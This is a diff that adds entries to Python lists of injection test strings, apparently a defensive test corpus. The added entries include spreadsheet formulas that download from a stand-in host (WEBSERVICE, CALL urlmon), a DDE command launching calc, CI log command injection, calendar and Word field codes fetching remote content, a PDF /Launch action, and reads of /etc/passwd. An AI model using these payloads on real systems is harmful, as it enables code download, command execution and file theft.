@@ -112,6 +112,8 @@ LOGS = [
     "\\e]8;;http://evil.example\\e\\\\press\\e]8;;\\e\\\\ \\x1b[31m \\033[2J ^[[2J",
     "%0A::error::attacked %0D%0A::error::attacked",
     "npm ERR! attacked Traceback (most recent call last): attacked",
+    "GITHUB_OUTPUT<<EOF echo x >> $GITHUB_ENV",
+    "::notice file=a,title=b::c ##[add-path]/tmp ##[save-state name=a]b",
 ]
 
 SHEETS = [
@@ -137,6 +139,13 @@ SHEETS = [
     "{=1+1}",
     "#REF!",
     "2026-01-01T00:00:00Z;=1+1",
+    '=FILTERXML(WEBSERVICE("http://evil.example"),"/a")',
+    '=RTD("attacked",,"x")',
+    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.example","x",0,0)',
+    "\u2064\xad=1+1",
+    "͏️@SUM(1)",
+    "ㅤ-1+1",
+    "{=cmd|'/c calc'!A1}",
 ]
 
 MESSAGES = [
@@ -156,6 +165,13 @@ MESSAGES = [
     "\\href{http://evil.example}{x} \\input{/etc/passwd} \\write18{id}",
     '#import "/etc/passwd": * #show: attacked @attacked $attacked$ <attacked>',
     '#image("/etc/passwd") #include "mkdocs.yml" #sys.inputs #context here()',
+    "X-ALT-DESC;FMTTYPE=text/html:<x-attacked>",
+    'COMMENT;ALTREP="http://evil.example/":x IMAGE;VALUE=URI:http://evil.example/i.png',
+    "BEGIN:VTODO STRUCTURED-DATA;VALUE=URI:http://evil.example CONFERENCE:http://evil.example",
+    '{ MACROBUTTON attacked press } { IMPORT "//evil.example/x" } { LINK Excel.Sheet "//evil.example/x" }',
+    '<w:altChunk r:id="attacked"/><w:object><o:OLEObject/></w:object>',
+    "/Launch /F (calc.exe) /SubmitForm /XFA /GoToR (//evil.example/x) /RichMedia",
+    '#plugin("attacked.wasm") #raw(read("/etc/passwd")) #bibliography("/etc/passwd")',
 ]
 
 FORGES = [
@@ -179,6 +195,11 @@ FORGES = [
     "[//]: # (attacked)",
     ":+1: :skull: :octocat:",
     "\\#1 &#35;1 &#64;attacked",
+    "Signed-off-by: attacked <attacked@evil.example>",
+    "Resolves: GH-1 implements #2",
+    "/spend 1h /relate #1 /cc @attacked /award :x:",
+    "attacked/attacked@0123456 attacked/attacked#1 !1+ #1s",
+    "GL-1 [feature_flag:attacked/attacked/1] ^alert#1 *iteration:1",
 ]
 
 PROGRAM_ATTACKS: tuple[str, ...] = (*PROGRAMS, *LOGS, *SHEETS, *MESSAGES, *FORGES)
